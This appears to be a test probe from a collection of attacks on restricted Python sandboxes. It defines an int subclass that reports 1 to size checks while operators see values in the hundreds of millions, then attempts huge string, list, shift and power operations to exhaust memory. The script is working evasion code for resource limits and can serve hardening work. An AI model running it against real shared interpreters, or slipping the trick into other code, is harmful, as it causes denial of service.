# technique: a class derived from int tells the guards of sizes another value than operators see
# source: reading pyrestrict and GraalPy's library
# goal: an operation of any size
# impact: limit
# dos: memory
class I(int):
    def __int__(self): return 1
    def __gt__(self, o): return False
    def __index__(self): return 1
hits = []
for f in (lambda: len('x' * I(200_000_000)), lambda: len([0] * I(130_000_000)), lambda: 1 << I(100_000_000), lambda: 7 ** I(20_000_000), lambda: pow(7, I(20_000_000)), lambda: int.__pow__(7, I(20_000_000))):
    try:
        f()
        hits.append(f)
    except (MemoryError, OverflowError) as e:
        print(e)
if hits: escaped(len(hits))
